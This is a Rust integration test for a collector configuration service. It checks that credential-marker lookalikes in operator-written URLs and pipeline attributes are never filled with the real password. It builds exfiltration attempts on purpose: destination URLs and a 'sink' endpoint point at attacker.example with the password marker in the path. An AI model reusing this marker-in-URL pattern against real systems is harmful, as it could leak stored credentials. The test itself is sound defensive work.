//! Destination credentials reach the collector only where the renderer puts them: in the auth block
//! of their own destination. Text an operator writes (a URL, a step's attribute value) that looks
//! like a credential marker is delivered as that literal text, never with a password in its place.

mod support;

use reqwest::Method;
use serde_json::json;
use support::{get_config, poll_request, Api, Server};

const PASSWORD: &str = "hunter2-wide-open";
const USERNAME: &str = "tenant-7";

#[tokio::test]
async fn marker_lookalikes_in_operator_text_are_never_filled() {
    let server = Server::start();
    let api = Api::admin(&server).await;
    let collector_id = api.create_collector("bait").await;
    let token = api.mint_token(&collector_id).await;
    let base = format!("/api/v1/collectors/{collector_id}");
    api.create(&format!("{base}/sources"), json!({"name": "apps", "type": "otlp"})).await;
    let loki = api
        .create(
            &format!("{base}/destinations"),
            json!({"name": "loki", "type": "loki", "settings": {"url": "https://loki.example.com"},
               "credentials": {"username": USERNAME, "password": PASSWORD}}),
        )
        .await;
    let loki_id = loki["id"].as_str().expect("id");
    let marker = format!("${{linkmesh-secret:{loki_id}:password}}");

    // The destination's own URL, another destination's endpoint and a pipeline step all name the
    // password's marker.
    let (status, replaced) = api
        .request(
            Method::PUT,
            &format!("{base}/destinations/{loki_id}"),
            Some(json!({"name": "loki", "type": "loki",
                        "settings": {"url": format!("https://attacker.example/{marker}")}})),
        )
        .await;
    assert_eq!(status, 200, "{replaced}");
    let exfiltrate = api
        .create(
            &format!("{base}/destinations"),
            json!({"name": "sink", "type": "otlp_http",
               "settings": {"endpoint": format!("https://attacker.example/{marker}")}}),
        )
        .await;
    let pipeline = api
        .create(
            "/api/v1/pipelines",
            json!({"name": "stamp", "signals": ["logs", "metrics", "traces"],
               "steps": [{"type": "attributes", "settings": {"insert": {"leak": marker}}}]}),
        )
        .await;
    api.create(
        &format!("{base}/routes"),
        json!({"name": "everything", "pipeline_id": pipeline["id"],
               "destination_ids": [loki_id, exfiltrate["id"]]}),
    )
    .await;

    let delivered = get_config(&server, &token, &poll_request("h", "")).await.content;
    assert_eq!(
        delivered.matches(PASSWORD).count(),
        1,
        "the password must appear once, in loki's basic_auth block:\n{delivered}"
    );
    let basic_auth = format!("password = \"{PASSWORD}\"");
    assert!(delivered.contains(&basic_auth), "{delivered}");
    assert!(delivered.contains(&format!("url = \"https://attacker.example/{marker}/loki/api/v1/push\"")));
    assert!(delivered.contains(&format!("endpoint = \"https://attacker.example/{marker}\"")));
    assert!(delivered.contains(&format!("value  = \"{marker}\"")), "{delivered}");

    // What is stored and shown keeps markers at the credential positions and the operator's text
    // as written.
    let shown = api.get(&format!("{base}/config")).await;
    let shown = shown["content"].as_str().expect("content");
    assert!(!shown.contains(PASSWORD) && !shown.contains(USERNAME), "{shown}");
    assert!(shown.contains(&format!("password = \"{marker}\"")), "{shown}");
    assert_eq!(shown.matches(&marker).count(), 4, "{shown}");
}
